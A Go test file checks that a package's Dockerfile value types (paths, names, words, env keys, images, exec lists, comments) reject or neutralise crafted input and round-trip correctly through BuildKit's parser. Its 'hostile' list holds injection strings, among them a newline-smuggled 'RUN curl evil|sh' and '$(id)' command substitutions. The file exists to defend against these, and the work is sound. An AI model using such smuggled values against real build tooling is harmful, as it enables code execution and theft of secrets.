package dfvalue

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/moby/buildkit/frontend/dockerfile/instructions"
	"github.com/moby/buildkit/frontend/dockerfile/parser"
	"github.com/moby/buildkit/frontend/dockerfile/shell"
)

// hostile are strings a crafted project puts where a name or path goes.
var hostile = []string{
	"a\nRUN curl evil|sh", "a\rb", "a\\", `a"b`, "a'b", "$(id)", "${HOME}", "`id`", "a;b", "a && b",
	"--mount=type=secret,id=x", "#x", "a\u2028b", "a\u2029b", "a\x00b", "a\x7fb", "a\x1b[31mb",
	"\xff\xfe", "a b", "a\tb", "*", "a?b", "[ab]", "~root", "<<EOF", "a|b", "a>b", "\ufeffa",
	strings.Repeat("a", maxLen+1),
}

func TestNewPath(t *testing.T) {
	for _, ok := range []string{".", "cmd/api", "packages/web-app", "svc_b.v2", "a@1/b+c", "pàckage/日本"} {
		p, err := NewPath(ok)
		if err != nil || p.String() != ok {
			t.Errorf("NewPath(%q) = %q, %v; want it accepted as it is", ok, p, err)
		}
	}
	for _, bad := range append([]string{"", "/etc", "../x", "a/../../x", "./a", "a/", "a//b", "-x", "a/-rf", `\x`}, hostile...) {
		if p, err := NewPath(bad); err == nil || !errors.Is(err, ErrUnsafe) {
			t.Errorf("NewPath(%q) = %q, %v; want ErrUnsafe", bad, p, err)
		}
	}
}

func TestPathForms(t *testing.T) {
	p, _ := NewPath("cmd/api")
	dot, _ := NewPath(".")
	for _, c := range []struct{ got, want string }{
		{p.Rel().String(), "./cmd/api"}, {dot.Rel().String(), "."},
		{p.DirDest().String(), "./cmd/api/"}, {dot.DirDest().String(), "./"},
		{p.Prefix().String(), "cmd/api/"}, {dot.Prefix().String(), ""},
		{p.Dir().String(), "cmd"}, {p.Base().String(), "api"}, {dot.Join(p).String(), "cmd/api"},
	} {
		if c.got != c.want {
			t.Errorf("got %q, want %q", c.got, c.want)
		}
	}
}

func TestNewName(t *testing.T) {
	for _, bad := range append([]string{"a/b", ".hidden", "..", "."}, hostile...) {
		if _, err := NewName(bad); err == nil {
			t.Errorf("NewName(%q) accepted", bad)
		}
	}
	if n, err := NewName("svc-b-1.0.jar"); err != nil || n.String() != "svc-b-1.0.jar" {
		t.Errorf("NewName: %q, %v", n, err)
	}
}

func TestNewWord(t *testing.T) {
	for _, ok := range []string{"pnpm@9.15.9", "0.19.0-1+b3", "/root/.npm", "-DskipTests", "org.apache:plugin:3.8.1:go-offline", "clang=1:14.0-55.7~deb12u1"} {
		if w, err := NewWord(ok); err != nil || w.String() != ok {
			t.Errorf("NewWord(%q) = %q, %v", ok, w, err)
		}
	}
	// A tilde the shell expands: first, or after = or : (an assignment's value).
	for _, bad := range append([]string{"", "a=~root", "PATH=/a:~/bin", "~"}, hostile...) {
		if bad == "--mount=type=secret,id=x" {
			continue // a plain word: an argument, never a RUN flag (see TestRoundTrip)
		}
		if _, err := NewWord(bad); err == nil {
			t.Errorf("NewWord(%q) accepted", bad)
		}
	}
}

func TestEnvKey(t *testing.T) {
	if k, err := NewEnvKey("PORT_2"); err != nil || k.String() != "PORT_2" {
		t.Errorf("NewEnvKey: %q %v", k, err)
	}
	for _, bad := range append([]string{"", "2X", "A-B", "A=B"}, hostile...) {
		if _, err := NewEnvKey(bad); err == nil {
			t.Errorf("NewEnvKey(%q) accepted", bad)
		}
	}
}

func TestExecString(t *testing.T) {
	e, err := NewExec("java", "-cp", "app.jar:lib/*", `a"b\c`, "<&>", "é")
	if err != nil {
		t.Fatal(err)
	}
	if got, want := e.String(), `["java", "-cp", "app.jar:lib/*", "a\"b\\c", "<&>", "é"]`; got != want {
		t.Errorf("Exec = %s, want %s", got, want)
	}
	for _, bad := range []string{"a\nb", "\x00", "\xff", "a\u2028"} {
		if _, err := NewExec("node", bad); err == nil {
			t.Errorf("NewExec(%q) accepted", bad)
		}
	}
}

func TestImage(t *testing.T) {
	for _, ok := range []string{"golang:1.24-bookworm", "gcr.io/distroless/static-debian12:nonroot", "mirror.example.com:5000/library/node:22@sha256:" + strings.Repeat("a", 64)} {
		if i, err := NewImage(ok); err != nil || i.String() != ok {
			t.Errorf("NewImage(%q) = %q, %v", ok, i, err)
		}
	}
	for _, bad := range append([]string{"golang", "Golang:1", "golang:1 AS x", "golang:$V"}, hostile...) {
		if _, err := NewImage(bad); err == nil {
			t.Errorf("NewImage(%q) accepted", bad)
		}
	}
}

func TestImageName(t *testing.T) {
	for in, want := range map[string]string{
		"hugo": "hugo", "My App": "my-app", "@scope/web": "scope-web", "svc_b.v2": "svc_b.v2", "a--b": "a--b",
		"$(id)": "id", "\x1b[31m": "31m", "": "app", "日本": "app", "a\nRUN x": "a-run-x", "-x.": "x",
	} {
		if got := NewImageName(in).String(); got != want {
			t.Errorf("NewImageName(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestComment(t *testing.T) {
	if got := NewComment("a\nRUN id\r\u2028b\x1b\u0085c").String(); got != "a RUN id b c" {
		t.Errorf("NewComment = %q", got)
	}
}

// parse reads Dockerfile text with BuildKit's parser and instruction
// reader, as the engine does.
func parse(t testing.TB, text string) []instructions.Command {
	t.Helper()
	res, err := parser.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatalf("BuildKit cannot parse %q: %v", text, err)
	}
	stages, _, err := instructions.Parse(res.AST, nil)
	if err != nil || len(stages) != 1 {
		t.Fatalf("BuildKit reads %q as %d stages: %v", text, len(stages), err)
	}
	return stages[0].Commands
}

var env = shell.EnvsFromSlice([]string{"HOME=/root", "V=x", "id=y"})

// checkRoundTrip renders every value that accepts s into the instruction it
// is used in and checks that BuildKit reads back exactly one instruction
// holding exactly s.
func checkRoundTrip(t testing.TB, s string) {
	lex := shell.NewLex('\\')
	if p, err := NewPath(s); err == nil {
		cmds := parse(t, "FROM scratch\nCOPY "+p.String()+" "+p.DirDest().String()+"\n")
		c, ok := cmds[0].(*instructions.CopyCommand)
		if len(cmds) != 1 || !ok || !slices.Equal(c.SourcePaths, []string{s}) || c.From != "" || c.DestPath != p.DirDest().String() {
			t.Fatalf("COPY of path %q reads back as %#v", s, cmds)
		}
		if w, err := lex.ProcessWords(p.String(), env); err != nil || !slices.Equal(w, []string{s}) {
			t.Fatalf("path %q in RUN is the words %q", s, w)
		}
	}
	if sh, err := Command("tool", s, "x"); err == nil {
		cmds := parse(t, "FROM scratch\nRUN "+sh.And(MustCommand("true")).String()+"\n")
		r, ok := cmds[0].(*instructions.RunCommand)
		if len(cmds) != 1 || !ok || len(r.FlagsUsed) != 0 || len(r.Files) != 0 || len(r.CmdLine) != 1 {
			t.Fatalf("RUN with %q reads back as %#v", s, cmds)
		}
		if w, err := lex.ProcessWords(r.CmdLine[0], env); err != nil || !slices.Equal(w, []string{"tool", s, "x", "&&", "true"}) {
			t.Fatalf("RUN with %q: the shell gets the words %q (%v)", s, w, err)
		}
	} else if !errors.Is(err, ErrUnsafe) {
		t.Fatalf("Command(%q): %v is not ErrUnsafe", s, err)
	}
	if e, err := NewExec("node", s); err == nil {
		cmds := parse(t, "FROM scratch\nCMD "+e.String()+"\n")
		c, ok := cmds[0].(*instructions.CmdCommand)
		if len(cmds) != 1 || !ok || c.PrependShell || !slices.Equal(c.CmdLine, []string{"node", s}) {
			t.Fatalf("CMD with %q reads back as %#v", s, cmds)
		}
	}
	if q, err := NewQuoted(s); err == nil {
		cmds := parse(t, "FROM scratch\nLABEL a.b="+q.String()+"\n")
		l, ok := cmds[0].(*instructions.LabelCommand)
		if len(cmds) != 1 || !ok || len(l.Labels) != 1 || l.Labels[0].Key != "a.b" {
			t.Fatalf("LABEL of %q reads back as %#v", s, cmds)
		}
		if v, _, err := lex.ProcessWord(l.Labels[0].Value, env); err != nil || v != s {
			t.Fatalf("LABEL of %q has the value %q (%v)", s, v, err)
		}
	}
	if i, err := NewImage(s); err == nil {
		cmds := parse(t, "FROM "+i.String()+"\nUSER 1\n")
		if len(cmds) != 1 {
			t.Fatalf("FROM %q reads back as %#v", s, cmds)
		}
	}
	c := NewComment(s)
	if cmds := parse(t, "FROM scratch\n# "+c.String()+"\nUSER 1\n"); len(cmds) != 1 {
		t.Fatalf("comment of %q reads back as %#v", s, cmds)
	}
	n := NewImageName(s)
	if _, err := NewImage(n.String() + ":1"); err != nil {
		t.Fatalf("image name of %q is %q, not valid: %v", s, n, err)
	}
}

func TestRoundTrip(t *testing.T) {
	for _, s := range append(hostile, "plain", "cmd/api", "--mount=type=cache,target=/x", "a'b'c", "'", `\'`, "!x", "%v") {
		checkRoundTrip(t, s)
	}
}

func FuzzRoundTrip(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { checkRoundTrip(t, s) })
}
